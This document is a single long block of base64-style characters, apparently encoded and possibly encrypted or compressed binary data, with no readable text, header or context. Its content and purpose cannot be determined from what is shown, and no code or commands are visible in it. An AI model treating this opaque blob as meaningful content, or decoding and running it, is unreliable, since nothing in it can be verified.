hc0DMn19DPa5Luz9Zf8+TxgCs0Huq4pP70tQ2tlqe6MOqh7RwWMw0/rSNaaHiLJJ6ahAA7Djh+GDc1eiMQr6+VofvJZFDf2Kc5Vgb1Wf8v8MyHU87j0qBHWclgfmt+3nFJbus1iJjhXRmNCW7XaIkVx6ulV9P4XzHbC15o8n5YmrKPjXoC7bI2b4rTOfQYk8bYsD2CBW8IrDGnhexxHMBlO9NYRY0FCfpdL09Lrg56zsGu85ljzKNdNedeIvO69FR++ow5sm8QjfuaHs07rZawEa7K3Z352XI6682rZE8DiiblxhZKscJmAQXVxxBuQm95noAcEf8OzbEGSbTwFIxtM4X3pQ4e0o3LXqnWxdeyLX0cIlFUqYA3zAWPvxUjT8Zr+SFgL7DSi6FeBdyt/QDWgD94lbvhHdxp1YuJ1VT/fjjFkPgS+8zufkGgJbd/huBRy2jNOnyaxBFRNVpDqZhWz+S1wz0Uq1pXrwJ7JgK4AuaOQgUBikLW5Xg4CAfJULmCG31YHYx2/k2A1bLNrL2+j81dAR3tjoEKe9tn2BRNIezlc/aBajjUHZuAo2YurXZeQ5MotxlTUGt2ZWko6yxt9c1/QoDVCrkJRAXigmV5WI0pDPiXOvt9h3md7W4cAbU0X5293eridb+w/K0i4PtJIKhNpbNedDUI4/dslV4+6v6DphdAGs67eHET8bSFBPpYfIGaaxwUEyXJvFm221mm8knJNDbqQmkLHkK4wyakki52UrysW5yDL1nffnke/amQUodq3CGbpDsZXrZWvQ8mCPFBfWUcuUV1s0sYuVNhLw+fEkx/HDUkfkE9iwA44/zeBZ7LCgbhnm6vyNIVMQQ7PVK/xM0jWm6/EFlo6lBn1ORpDftwqVXN1YyzNtBJZucyAwdpUAcFjlgIEQ2VlB8OJsVRt22L5KuHknDBuU8OtUm407DMcmTqDaVmjl+K5ep1fzjy3beoPNVLiX8qiUf2mfbh3G52vO6dQDuUTxUHpdMDgfLqE+NPq3sd3/HIRjUlr4VPkNZXh0f2K9zdJt/E8mZy99snZxAgw/GWXduDflE7PD2cdngo4/2CidnLRxWM4kFgVxWwVxpoHlgbhvVRNBPDUn6ujH0DlT0VhUXk+Y6D59kKuiL5j9sMz9UBMVpeXbPofJue2H3HTU6NHmtGuLhICCPV9ymE0WkgqDAPfSEjitKD1XKFJKVFlA5BSRJak94q64IvBE5lTwZ9nlhoRCM1uioiUeVdQoo9ts3gW5+urzOpocYX10t2Hmm5b8O71e6OPVRUV81AACgb1l6KWCX8Du/PgUorlHP/VrGNDBIx2pCOFDkH/6B6mPx/a7sfvDsPFAQWPzOo4qHjS9K3KaordPhJ4wK7lIxaCGUp8kIjeZ/wA8S4LgrAm7/PKmd4kmie5K2sHm2WuerBbKJjmIe+mXWUgzIO3cTgqZ7vJZughHwFvhCm5c3K0C5NkNHIJiw9ppUtsMuSLaenaM44dNsyvg378Ao+wEGGDRJ+7ruxeZB3LQsS4AAjNl//bDwIx334bJ/Jnf3k6IvRZ2u3d6dMXrUuBTR+fiBZSl9UWu0EOjw99OQMdsuaOzuf63UDffgLxaTC4DWUfRI18SOrBi7ZA0VYEyHDoj8Rck1FkDDj7Xg+xbK9cfSNckHKTMSziMSu4HRczzNzTR3d8IwPy8PO4nTqOQjinYalXJJlXreCRELPOzCVmz7A2gX9LRtyrACOzO1JLHGRpd6hlwZUGSY8WmW9b9yzPtsQebZw2WL4ix8DkoSBI3ZOlW66xLKLLQT/hES3bGDQoviphJigpf8cH5rNVpjOp4ziwX/gXMaJ+fwD09TnKArOYYnfb/ejeSPAjTwOKxWIKzv1Hwz5uyFDp7gAy/pTpHELu/fDX4+UB35D856y3ObMZkVq+9kt2c0aQFyoN9+b/hX4sljtHC5H39bemp+WqB+EJuJd/tVZx/g9A+CdkchRjv2SbxWKA/HuxKsOv+85NJh3sWeICSvtM6xrxBc+p35eCl5WrahNByqgdMMYRWlXmL/CyxHxUbC3hlBxVe8T/Gxgd2LB/m3PJjMM0Sp3P9lPdEB7CKXKWf4j4bOZcfZ2N1uQEpLsF/oaodA6+rMQwxFjT2Gj7PQHeK7uaNy4GZ20aIR0JpJS56pNL+M8GWzcsJnaKps1PiKf2uzlAPZw0PqcPHjWMK/HFDcs0HweXzemSldB0xsyd+iU8wVcQY4CcAxeeS6OuvqEomGYAL52gtmxak9m3HTP+ag/+wNcdyS7syNZWMCxZoJWKoG1LpXyTezDuIw5xoUWb6MEAw1uwiZ/EgSOol6Onr7bIhp2VkVicargbRGEZqdB+t39FQ9bNQFOGVKaDFYSxeRH+IPmpgC5Gmx1X7gdGserYHNH2BNiZj24eNor3Snu+Z6vHM0X8yxfUp1f+E9P/8pSSG6CIc9rS6vUCpGGPo9H1sxYWNzL/qWj6/DaKtYusW9VUdmIn9BJKiiG7M7yHf6nmVrJ0+dTStb2ENiEhV611a3tmNq/tg/7ZiTcp+4UZc2sfLLW39EopQz62eSBV+USB33+6Qqwvz98mpZvOJ3p9rKzk4Ch2OEExSF2IwyEJFAWwWSe0WG8JPAbORxhhaFFGXG3AozEMQa3U7jMQyFu3ZKMFb4g+8/GrUSIFttzqqs/1Tr/6B5RAvm8ZrZJZinwjpNvCf7Dvz+IXqysBvIUmArepheYPOkIHqkFPgZOn5RPVcHbiBsaePeFv6akkw34NGMS7MYAnfJHlJvFMOPjKylVfLIkye1FxY5A2uRjiQhPhO8b5O9FHoW5n/XQ3tVdCx1PhctQ/q8ycZ4DHeyBBTvsT0DMfvYaVFzmEL0+PvhjlOdFvdPN4gCfTSYT3yH8W6gHUhBs6yUkEVHFN2nuedf+2lqbwy6lgPO7WnlnnFysExrfMHk7xn6MyB53seaWBGoH4exOdCgObPSSPnO88DxDg2FTd4yVQQ5WgveGcMH/HiL6hlzyuS9y5cMglLaKpWBXUO2Pc4960F1uLnaedjXFdvFb/eaBgOpITmJ6uxDOX0oX18qs/zR1oFbZFndr6U0DiKBhLIt5l3EkWbDKxNmUbO0BRkPbTV4RJ2tCNy6o7QX8tP/z2vw/vWDbP+pvS6UvEM9dUmF2aVBt9hSCuzP5chN3G9XpeXaobodctHLib3OmP9hiPXG9W+Q+cLVZbydGUajB+RNJe1WgCyw+KzTJU/+n1sP5DxCBE4bIot/IkrlPhCDLlTd/rJkicSxV2V1cGGwVvJtz878xGU/4AW4O+ToOn0QtPb7WxNZylti5jN4rdhN/Jz2ouD8mad0hQEnsnKyBMuOroK3H0xlThqSAVi6teVOwps2UiBKTS2zZn2VWZWn03L+BWKVEdfAAHuYM5C+dxEjkVnZPjCoVWvq5E3P3sYLT0kperpH4eaVHR8AOX4LBxGcbxj2r4mWOl7mu4A3DaDLU1mCzGgMUXyez7ebtctDEMY266mtHAPLd56nj2GJ+Q+njELZL+u8vMNgZBfmad5+hxC7SmeXnJzgIccQ3BtdSZJyquQ23JQG583nibmcha/B5VyRwLTU706QVFxqrUSCWpT0V9HFDMIdQgD78Kmv9MKuZSIHpa8YZyTLzOP+ocEZQ2c45t+1qvPwKgyyHOi7WkXTJrgIGEmMFTrCXYMu8ieWBZweaVztumBQJrni9MtX/k+E2P9s1lfYYXyUtSflRXFcGNfN7MqZEORmqQxigwR+aOwn9HHkQCaCP16mCVmr/fzUoEHWG5vv04eQKqR16rZunB+NkBdVkfJ9utkN6RVIyDTGzJ17uvnLe+xE1kB1TuuJUsiSYhjvxQXNl71/z/lWM64H1xRIv3+lfrG+NzAnQ1OKPXWpCwfJcYT5uKjXi8s4+seWPz+EyN+1aEx/ls0LZK8racNnAA1o4kz+Zmmx1lyHttSmjXuhlLrm5KwFyoIaFZnVe4OR1/2OErGoiggVVc6BUmYXdxMiXdtL96FIHGDRlEQcHYpIsB41v9dfdD4bN/UCewcxeRSe1RQAk0053nsLdN+FVGwxDxH0MwRFQXP4QlrDiCBTgmB5LcI9eS1p8pM1ZeRsXNZBAv7veukvdb91ig40KGsp61IUl+y0CmphhO7pZ6vkB5teQIkkVQg7s6T8KOuOCvLRS5BgWIJfvTUJ+eqc45Jk82dkeNeuHJ5Hxibht8Yam52UlOKr8+zl2ps9utCybT8nWnQRsxioh9+8TBhRYADFh7TpR9YH80P/vf+GwAvA5ygx8Qd2Df4g4AJ5R6grCxXdHcObgH30fcBLfmFijGiFSYB3j5/6ocj3Kc94CLmqodtDyVy09dqycrfvqA4FVERchXg6rvqUL0v+VlaOLoXhW07f/3FaLj/YkfDYKmn/T1qNHnhsg4930k/O3I5hGsjFv0jKR1AUjqEplWighfotyHooGFKe36ee6w2ezNh5XO4c2R3eYksWwXch0TNzHFkb68eyOPDRMYh6blgO1+FoT3FotzmRXr5o7NV3mfF4ah7Pp38XF3yuxLEFk8P6DoN8c9DzyrF3NDAZ+Mc/5Lahz1426vkicknQKfT3XyRTTb/cjxp8CPGK5vtqb2WXF9yesP65FndQoh/qguJ8J3Rq5czLvKQSmRR9oAz/jYo/XL0Q4zZ4zdaUntQ7P2p+5/i2Eh4fzNbZxWbFLS5zCJHvwrVQWX8p19lQTeig2nEwUb11kDxyHgJJBKVSkOc4FNcjy3kK/b/0MqlknsgywuRd+azKErJRZmScHtYOz/0xr83tkudWrix3GJPeDBvZbBULYMa2BrPOCfXFM+PG5TlnYw2Mz20qyUm/2eS4wOsdLnz8OK0YgppIiW7IfR7GJpT75tZcVpWHZ8qkKltzi6eyoxcp/k/45Qdjw/oHcfXA0JwF9DB4S6GEwCteBqaZqbnrqtUjt1KhQ7ABPPgS73QIt0ZTnoGOsxoCavthJ+K75gLs86iQloXAuVYBeTpag3yYJKqLdk6eQP4eRjNFJEuGrn8tcagXFiDI2tXE40xorZCvHl+q4oh2aQJDykDLlBOMam9QAcE+DbfuLEzwnBQb3iPb18K1A8lsfjyhy7O6aFe28sIp+RfDv7yq4RbppLhEc1OPU0B7uocJ0RVV602vamrQVWprjSDXwYtnN9UQlxJSSHFYIG4W1iOO3YdOMH1HhX/fA41KhctVEv7fw8Asdbvm0tjEzW7+aTgS3QQkVKX7A9knsD7Vrz+avnW/NWr3UMY2J/QVHMnae2SR5H43WuTyWoZdZrIenHFweFXArmMV0Rt+bHsHF9ks9+yTFNFPDUxhDli2vDR1LXZm+dHQfl5wqVUVXXrYTFug4nDHJHD2wSdKUNTd+PdmI9JCdXOg/QRFkRJX/C4uJ5uAuzWyE7k6BMFKOm5T6lk5jlsE7yXaaAg902PTYhAqkpAk+nByA9/S3DidZEHbwEjH+QsbwgYQcDE0c70X9guS2QZaIA8vPqYaQwsOih04Qj4Hh3gtrvyS9UfBgAMkSVkEetG05NEBrYuVG6XMbIE8//GIUQI018IAXebX3O778otOCIzuvdEWZDV+ue9KXA3H9P8sCFF6S3gtntavJlr1Un8+c6rsYDoj2J/rcA3LOizaGe5xN7vFM5av/GZPVHg87X4cPO67boZWY4Zck5/4mRnYed/wkJgDwkUkDCJBDYdD6XvUqufOAxaOdDp4yyOlF9zuZuv6Cq7zdwH5OTfqkHHWPdFgXpaBencMe49lM8iJAhmehDD1osJKO1XFTdPetXZlFcYIgt4KpmX1XA1DPkUXoLyu2VNUPll3UGRBnuQxjo48gBVdIf8qgZo7P47QHtDSFTsKhQIXKCIprxEONXWve/D7k8QRk2PLSOm5T/OKRvtmDXoGlfUUK4pJNFZFZlMvpTobbFLtv+MDwcnMluG+3QyDF/Jr/ZzUnUCWltbYk89Lxzd/SGKDDEal9Z8k8vIO6oQmWg2xg2x/RzawxB11YhqiP05V4x80Ai73vxGoY/oNKFLeu4VOCtNb4nEhy0bedPHLLnTHnsQ5G07u2s/qWpdHpi8DcsZv+oZo9pb2YEoBxXFLjjqqoeRKnI5u3PE7enOsR1ROzXsiNfyZpFaDJeGccS/6FVEZJ3CxToDJJ4Ov9+o2bOhlQ2PtBxU7Ejr131IuU594Ap7B5kI33cgPUvZddQr+ZiF+YJctmm9ZfzH3DinmWLGEGQEJ+pHe9VQ/xkokIGcA8bZDGHTgVOfjmdmx0leoRPeye+PwMhmUJEIWbqKPHP9ey/iSopMYckKEGn04ZLgqPXyUO+y/omn+qYnW1ObRbxj4nR+RLXoeOqO7DHL+BM98iyC9YsE///p4ryhwr7lU1dOomxgqzDxtOqfQn9tzzUOxiseyIqQOmgUijPAvDIDd63xZh2rZtDiXfxGV43g573x43fjptL6ULeuf8XhuqdieKGtbbmwRz34D83qfOspG7EDjEP+cBymgdgZbQ9ZD6dCY0PmMSzTIYWTVC+tnJkswJUJSStYiOPSKTiLvRoYTTZt1U5FL0yv/ms9NCH09mSJrGQrksMP8MOLv5zmuLAY/43M7/P2YwIG1S5ES/hPzjcWLD4cLHSeYCEs1agUiQsb5Ht5P/qN8NU+pBCBj8QKMpvixJV6sRWGZQah1v1J4WdeU11dzWT/oVUMZFf/cYYfwE6EXn5Qhf/MWMXHkuXXcjZip3ENj0b4g9h69GMkoDY5g3HPzCN9t0+XoZP39Lkh3Zt5R78q6LOrAUn1EVhhYZoPYff03eh2NofzCDX1ktlvG1kylbJK5kzhR6w/0LOI5dxOFb3N5ca6Fh1l2DbKSTB2IzhFhhTL2JqwyN6BIMpzXqzCzUxWtPPGSBEPngRBcTDYwCTR7HjrmzCm7Ek3zRSQGBGtkQgm9mw6vbYtQyk6A/LzWQe6vyhX0Y99IpRC1al42m0uc9s0s/fHEjvLL7KlcLnVf/I9DvFF+RC7ybxBRbctmeJ3RBcu6GUTWoSQ+ChaNIZFBi3JuplqEJsYoO/E2xPoBTDFfB3PjaK/VFNls3THjH8wmD4UQpfNDlOawSu+Bt+SMAESM3ikEfHXoNy83eo2xoNeVuNXZ74cplnRjSCCU+8ycCyIynJ7RMWtgtk96tZ2BCX99YlGXf9ce+Ih6MRZUCBkRRQ6jigEsRt8i+o9n6iOpRNdLW2xC47D7BdHv7AlQ4VbuTAkUPp6WrFZmC7BH9bz7wNqP6uDoMNWrHVbiu5izvmxZpC5u1MQvBeYZbk2/bblyifOAa9tgyq9pM1D+gRH22xT5U3DZXbmLxoCNEi1sT20S/Y34kEisc0/kxCdYKXFr5vP26+YsFRShIRZD/aExmjAZ0UbkFAG7xr/QxEII0Nw5q3I2Cgl7da59+Jgc+b3+7s2g6+L3jl7FpOq5nCI7rd32WZ9/XlHAI/ZkrQ0hUZ0yKTdUueeG3Mu/Nt9YLBv3g9sI9SwwOERX2uyLEP5nRaCHxFoMfwjQJirCYgH1e1A/yYH2QEXvn1931X8jELFTxQhAalmVT2rBpVP8n1NaqfcWdoKaqH56oSbgFfR549zQhTxw7iUG6Vjfd8ZCUNum0qiRojsv5m/tENDNbKJvhTfTSBxMT/fPskuxCKQp7DcWa5vvht9x5j++Q4pFpajAlLgPjleF2Eds/AFN0gBxDhLbUEGwkS1H51ePD0KljSkzgVzm0aOkF2Ti7h8cr3EvYSzFoAEGjk2Kx8mkCJZVxdumSunRetPr5pzuyTocoIs63WU9ihwzVAsnLDL2sZ/rl/t8nSXfDBYlHNniVDQ3x89t2KU5KnoiWPDq6MDzYHwg9Xh4N/cULn6nh2wBal33n1ujgH8kFpk7nM1JzHdsO5uh9qy5yzRfQ9caAbrGA/I5pejiF12Tn8kgwuybR+HKXf0FsfOuU9vbHdsvgjS1oJKK4hI2Z18Vvxp0NZ9bbZQ3cf0oEfxGCcoyve4qlKvWC9aDEjOmPOn9uLXy83tGCyfY8Vj2xepuvjmJs8mIQ3puU21HQOGfog6qC/9qWG9X+YoLNfDOL5nDLEQOK8PVGF1bCsFMCkViZgf/B4Ne0DTB7zBH6vlqnAiG6m2Q6hiQZ53i4YoMBbDr7crF+9Da8s4fRmwgiTGAGny6Xe/WpphZmUm8eQfipxvw4W11NxEj/MFpsMnouJE6WZERtT8geo+/Yc7WHmMNbmRSQItZSPQIJwcClRXXNMCAiZ4eL5pIEmBUMV4UHCk0DM1pfZUbU3DXdxhujPu9dSZCwtCXP+IPqbSVT+eC3WUsYbbSJnXkPh28AOojUDJbWvv4lMeSOP1TopJBRuX+UN+KX8ZP0WMAc61l3xLUA3Ov0fTKumIQb67sw4YHEPCUoijb4MIWb4LJfgKWcf3yZgzM6uevldAbDjWHhQRv5lml/bfJd2il3ChZOKwf3cgIMXNIOZCSnzE8v6+PHrE3SydNZK7E62O/bwIBjX0Rta6yBf89AM1GTECD25GU83GRHdWt9piFigR6/1IsF+nu5EOcxTaCl2XAxVLBtVAa0Nh/wtIFI0vhbH15oUx9AQbaYlxPJOZUg+TZvEM7pGWvT2AcSN7uBEpdb42genrdWPXA6nC7lMbGQkVarBg/YkFivFuGV0eu3y/IATDAlVHui/fb/LwuzuK8N5b804LpFot04jHzu9axcDjOpLKnOv/OwJnBQswZNj1At8UBTuqCRX8DLP6kZGSo3/Cym8gv7fIO/a+kkP9f+Ycv662G3Kp12Rw49ugPTD8noshrQ9G69rTWFJPOLihQw0ENELepY1JS3i7OTiAl6hWSYVRJKXIW5LSk1I+H9kUHCSz5IZhjzHsR8f1SW+bDPErfZb4NK78/Q0bm/qzeK4Ts2ozR0O5Af4gG6axvWelAnMfRMCTEjmHdyz5FOQPA8Bsvyafoezgh/btU9bSjkbSPmOIWMhVE784U9S0OL3TQFWMaIvA+RKN7aKUhTB0sCBqD1t/TgDW8Ofw+c37ov6F4p/YvvAQo2SwO2Ss7iN54HgdM/VzmfMqC4K3/zOOUDBTARJm4CiXpKuCsO9rfmJEyUl63ZdcqVsVeuvAelrxGEqrFDskyAMyV3b39H/ODzg0nQz9gzmdeTuG+hZjkWxoWG9B9GUrGvFFNtepaGz7oPVq6SRo6pLfBFhxWs8/QHAihpHrYXek3pwva0CN8pz0jtQVNShtAAZ5ibA8FxZQtUybAOhFLhtkaO3AcvmxQAWohlhJ6m+f8gVbIB+XDak0aIHn1yWz5TrNuw6nAilGQyx/QZU3CXdvl6kvRYR0zBB93mabli4Rd336JZlW43CXXb2sUBzYRvLTrVfVs/QfadDDHz7my8YgGYg9WLsYs8yPwqicAU3geJnMMG+1ADrKSveoZbWjyNkx9VtrzB3kKYvR2JJaIQOtKsis1++2KAavECvhaEybQI2X9LgjyoESCs1eKwVk+tMNdXGvp937chwv1OkICSqztKLP9gPAgliSll+bTC96SXDWnyKOQBqDdtitRnN8razDwFDaZOhZaf0f0g1/V5RjXUPo/R3lKiPhmzCcJymhua3f44IRUkhgCHEwTevyduxcmGJWK6thC1BWL7R5hYdGX3RPj+z3/Qxvyu+zkkXjW2SeUkunVl+vz5VJZIkuCuXVEVUxQKbSWJY93riEsaPbxD0vSN+rLfclM0ay/cGWaw1FJPi6z/L6163mfnLJzSMzpZ6EwxSFSsbTIsHnsB0KU4ZQIR8AvRafosk4cPDwxoYoqYQNnlyg0818jsnD31HhC1zQHsK+QiA72YfB1fmAesiHch79sgWg8BkbF2aUW8hg4R9eplC7/6h56+hHNwNF6Io9WO6/mjzpNo5uhDB+CMs8da5r8tg7rp6SZMj/ijH53Noah/kOUJuhFFDvR5W7t78nE4TFPNHbubbcpHiCYJ+tyKp9SHueXQ93yRQ+4idPB3AKiXzUzVJdTAtJYhfj/oMP/S7Tz4Ua5ueUhJGPQXXziPdAQmU2dVGYxc8hUMrNGP1yfbugxTrrSGRFfNhHpaR+JH2tyFUUTQq1nOyKv8kK9KSeXVpfaxeEFyQS+EeqjaKG9zW5mZfC95vZGt3bSElEqxT1DTSoYvFCVwuYHMSel1kMRT2IsetoYAmPpJwYTCDxJ8AzF5QsRhL2XfHlVAqV3wQ2elHwsUOVcrPuZrUFFczyasrSG0r/gqQSsnn38t2fM4fbLxMUZhzgYsrFVZDcvlAaDAJrguw7NpKBewScuvvcdHtXgJ/xkmTA7zHlsT8+k37jfYh8Uycive4/u2xY1jUHKY5lHuKJlDEMEanb7RhTBTVgRnqhaPlyUyyXzEtbBBQEhoYYq9ONaUhgfaTrRcSkaz8wbO6r4/9ncjye0XM0JElCW0HH8CR+yDHRQCf9B/iDN94tcAstfzk3mzLaw8LCzEGysWT6CumlxGTgq81MPztRElEbSNYnwmmDFpRE/HwwqwkrJ05Nr9LnBOHC4n3m2MC1W+0XUZ0E6kOoxc5fGy0IQgTxYmjzhpAb+15wZ32B9GcrfsASCQXKfdWWMDeFOf+ZOhqMiOMD/jEtFk7lOF4zZ/BV2yGkUR9yjlv+sCVpSr/m04DHjj1oton1SqbFsTvd1em9z77atWYLbAxlnelYQDM1/7fwi7sDuSJw8Zq1CVfkhDrBGbRnxxLdxMDxNSUHzmGyknHLUIs+4sDo9nz+BbTa5rvi8hMUJ8xM47s32lkNXod5rFwi15YkspMFH2FmVkVc8A3JU4X1idxr6Y3JRxvMfvsjnUIAU9r70CTWsK512CeaV4y4Bz90WhciyXYnAUka4tKN5td/ElrBKXSC8JQyOZ3lvJyaLNXx+bRFBf6l5sKlxzL2RDIvu8dGstxBYrf0PduVc8aYMC+mxL3z4yh3YQKkdQMRcxwZPS5UggGhZkarOYuZXATg3L6u9cFWHBxga1gBrGmkXqqDhdgaoXLET4Tj7ocLgun0UHbJExIxY0VyO8/2mNX4gXthphdG0dTZ57k0gnH5rngSOgjJGnenOnr4neNrNwq9PJCydkddhm0TqOnjnA3Fy4ahPQLBK3ywm3Ah1RWJyTxpT/DEoCChjSfeGDj51uC5BNwuQOkWMaSxkHvZ6HHU5KZr7DXZU3DVn0jZFuyg5dlKbZ2zB8S/IGCyeZWMz3hIVBHW9G18Oh4OBb+mQur0QYpnmsIpW2mkTA8YzHdf/gWaCpGVmLkXA/qf+c+aYtPwAXhYssnE3dWy9sdlrl2exlv+MrFyVFoFKoY0rpaXdd/4aEUg0T+FS7SkXJpfJCS3dYGH33wkVkcyMffZ+d+e0QOn2CUL0cYVn7fQA4vWlypnTKyWtutFdJUtISTlP47BW3cOCLCGBPKn2Hpu8eZP5Kzf+oCTzof9XkefvcQiMvLnIpcYDXzQ3Sz91d/lhiXBAowkKEVNgfogp4SNl8GskAyLCwGgSROW51JmtXL1vIM40dWyraROzta8xceGFYQni98bnMxycDE0IdfMOc3vRrhC8gpe3Hg8Svzz5NaJPYW2xUs7CyCGZese4o2DFMH0EqQvybuiLSnnaCObBzQ+hfwXi3TJxf8zol8VOfTWD3pElj96A6U5PEVVZHDPYNt7WxR+2naUloajNSwfaElGj5DPax6TabMkf9fGx36r6fWGbthsN6Q5dC87ijLy22YTidZswwHyx3pqa9gyPtNRDM/fZ4y8uJIUvfIMiwnNjwq/5EEVMGqsAwr3fCZYAUV4FUGfNQVAFDTO3/kiCNbhNZM01LQ9C+K6FkuRk/Cs2RpQuZfo40O5ZjD8F5Hzp47nRumMqDiQJ8aXZ2077uR72TD1zHp52LqcpnG89BnqAvYlf/OzVUJFn/zDEja/YW/QLGNNr6hKhenCLqrMDkHS3gM1ZI7LGYcc/i46kaLvbla7DOE7QvI/LO1zChjwR/J2vj+VoZc2hqJuAq6xwTJ5ak37VzCUCl+sNa/9S0l+RxYHYH6hfe2/I3XW9RFDDp2NA+poR3akZwIIhd8eyuYQFpS8tfvpTd2doibSojzbeDNhJTPFagA9pftNrk9HxxumWkosFOPvCf9u7p4qoGsI3G/GMnBV5FBl6ju1jaAnrbtjr5t1lgetEr5DvL9bj5AjhgYLwywi18cnWwLgFyfb+uqtkL4a7KxrBgSvrpKD/Qyh61a8Yaobqi0QUVAQ8FFWsig7hFMKYrjR6J+/iCebuDlBUQ5TJp9mAFUuKwHCag9Ii0jb4OfKRbWTJ7jLjKFW3sh3Ns1E7YsxC1C7ZHauffi1PebgXhcc4T2X2w0HDcQu4SZs9Ecn6YVRzGbo7agPmLUJzyVeSa8Ssri1cHTIlM1XCtVK9hj3f9802D2+APG8PYqYcbqNxz2kj7Dr7ZtKv04gHxkElK9kfxjP0rZGTASBnvQRIjdBlUGFWXf5/MF83r86B9T/VWIr1+kiv6YXtdNxpC8EHs9AP4wXInHb+O382iJEdbHB/ElTZTOh2qtEYbPfiQwq2zXcuTYOqOK9eJq/uKUEXDWXNUyJPrja0yzTg89ophqDmNAVG8MF3T/dwK27ME18OmvFmvKBlE96mvJJr+yYZWV5mQTDw+wVsu9y/8Mt0v3F7GJBtnEKFEhvj6C0tZ/AEG3XJhDAdxDAO2tzY7BjTI9IENQoRV7sCmXHmDtqQNroQ3yqEpyYJEXm6JksvyVfHvzflJWKh11Lc5fssYnqk+2HyQjNOAKGL0UISO3yAn0ipax/KCBEj9YfkqDyZPf79l/+XipYAsIGsTDDssGu8fTgrGP0WnBJ73H6wh7w8Ye5qbLezBRiOqx9samg0QNxPjJNZI4hMKq538BCciz0JKjvolPU7CSTrTVvti/kQpUsK2ejbl0Day+7fr5ewp2aCRF3zDp0DYTRk50xJi5cbLAPwivnUGp1XkUmXbyXo56cfq6t2Dxp4u+0C2Y85ozO5VJHnSWIkNbUYxlC0jbBpgEuUA6nhhIBPZK2HcC7zCPMltCr8ZeKsai3CdkYd2K0oqPWEPMM/7Ti2iPaqyJ3efGcI4WEQr8FJY853nWfmd7xEJAG6lwKQBsbtYZ035UKlB8rDXfs4JzSb9lr5nZzxbZHOlUjD4udN5UzWJLTYwU5l/xtSoFpOiWoGZsXDFhamMpDZn/MH5GX8Eg5BbJT7yM+lz06tz71nxcq2JjvsL60itLUNQzD2nFthBHr3I3ZEdpUsUGBYUfQKK9FMSzHvhKzzD6+nKJ72IWfe23CqIzc/n7bqQhTdBeUhOp1PlOkbn/zuBlhRf4p3r5sVPwiFtWGAStgZfXEb5S/gYRQpgczrlfmwI1qO010fMpxIhGStxkL6t9d3yYLuaAA2LhUtcHyXiJwZNOCU97phWmtJUc3zOud0BCxH0tPwlY8r+4RuCJ+ALrYFF5OZClHfi2TyJ5rTGlws2RfTboN5CubJXhrAL0KVU7w/D3VNrGQq5vcxzunF6w0mFKFRVmG6YtlICoaLc6o6afoRTyUkAOxX93BppV/ax2kiWgc8ewTN+c+ASvn4oKG2fMBbQkqCCRqTahPY+D2G/MUBFW5bZ1bQM9DI3ptSTp5MLPo8rCJUHK5K0soY5KQVaHNYSkG501XaUyiRiMexOzjytnScMD5cYPnA0k0q9AZTKY08KijohkPvgdjPP16S/ZW0kklB+Qy+JCkRwGi1wsr/pgtnlDGZqNiGbc6OK/42uPosj486VnS8NgFtChKsHOVuLAM0IR6+XmMCUmC7zGH8dsZk5PDsQniJ4CgE+mVvMPp6KADw066J6Cn2TRTBgADNZvIPg9vbK57Onh3B9yOtnTx+B1XwWiU2N0X1NEy3nK84Hw/nHTuXexKOOrQhwfp1jcYe/BwU7XcRy9W+gzpE5b0HAxjp7nI0k6OET5oQUdCzfsYTYOl9OvjUtik3ZBnDvgWQefC9Nj5a7eR/prlb8QmM9yCr96nii6FQ0mmhO1+OBFBFq+uz9wHmvint+HI2COQNjPjlzxbdfAHNBx0wPTni+XxxOnZ6APGoET7BoeDNO0VQY3Ukw5Cv7jaD6cJqA6XgI/OCY2pMQ5ySboxX/hDvSsXQ4t+dBm8cNDihI5ZAbKOhXNy0uu1PiDyt4+GUYFhpYF9Z1GoEFp78afnYV0FvtbiF72Z9OzUkGFp1kzxm9uLxOX3eG5emR1iOv2mstqXlH/1hOw+5qFePHLwe8ImdSa0cR6LHwUDvpApV6An2HSBkOEdS7aHLdSEJnT2bXmAzrMwDxdrcqsv0mfpHQzn4qaI9GPR+w4ljMewJ2nVNVXKtmWnz8vkxQS2CX9kcPBsTaxejHclM52mSh+g9vY+68cjp6sV3W9BBbO9wIfmMyTv51Gq/aJv9TI9TUTYrRpCp0kOaF9Ezvz6HSZMr1E8Q/QFKPp+23tSXFKoPi3nxN2hJQxJPrEtrZcSr7UjANIuyWwASwEgTX307bhDCPL2yCMuOFat9y2CupgQr8AAybmwD6RBWtcSdnwz0d0kqCZ3b++JRTm+ZbqPET7IUkgWM++JHekMHuaIjdqxIGBC73EDt/SRc8bAQHY1sxWVbdl4CfO7M/EsYjgbj7j6CDohdIySZOq1SkFAI9mp1dxGEicCGkiOJOMFc8FXL6NqScR3spvcbtfB8W98TCCVWwKDDr6gmkqWi45WwMq9WpAQnGiX8kKJpmJIlameB96LSz3tVYcTBgVPhGDRovFnvuoKsyf3tws537MXzeqzyLtR4rJid+NRLVUMV0AvA5O4dzGgtcLIqc++RgU8p1XVg8ciXwyhicWxj8l+4IpkX12PCLeqO2OzcEoVtqwuS2ANg3VD2oXztIW/d0fqZTJjU8k2SCMZXmDDCFDNjkweO0P+Wt88WE0NiCz8RqlyRSFaeke81OXDI5Etrs7XjQpeTCSByOUAM8lVzSH+qjr9aJJq0XnUtGSazXlfLWN+n2RQ4CK+gSyZC+CewIPM3tU9LgK6BKRh7Pd/YM97KJ8Zo65JvRN+S9j6L8gjiw6XIl3TE3mCEEgrsU2s4lrfDMmdMp+I2FSrw1pUbaThXdy4u9RDm/iUKEwbfp4Bm2yavwKVZTjDiOe5jSBGvaRxK9IFR7tCTENbZkFLNOIgoqg/QI5C7S/Bg9OrzilpVGPKRxjZQIiC6bymX1gsZ5cuk7rITN+7AYrO27IWg1y1HUppD+Ry9+rn3FsGTbIRGV0NXbn98CAvhTooPAf+mqhBxl1NLS60ph7tSlRSpIWt+ROqeDt+iLnbuXNuA5GSd7DuofWDc3xykCHMC5BHhBeEQZZPK73AG3KNF5BnPGTyRuATpu+nPjSAbXs/8lWT3w4rE6SmTkoi11fYCUhYbTAg75q1nQHhiP4ZvWidBbmAL+D/l3jxbtn7pzYa1ApxhdfzJTpAq48p0vFhS9hI9qTuW1BNQyT6/frBupMmRBmz07tXZXlXS+OXmT3cXqqLz4DEycKAOwty/gyBJXHrJrllQk2GFMF3Owp19NkwP+s3sVcGf3aBzQ5pPvCTVLh/N9nfDu6F1j4E1GmNJPU6fbVK7dgLDzDAgJPbEKHKpMaGawPROv0qG7TGGGoFWXP2H6VJ3jbeZS9mR40+bwNDeF9h0ccojB/aRz4wUX+PWUopSZyqdPlsUsdsR0bKwqD3Ro4be75ZxZu3cuoHBQyVggI/ljOw52CMTtsnirw/ylkn9ey7A1zbt2OvG/joUer8LVmBL73v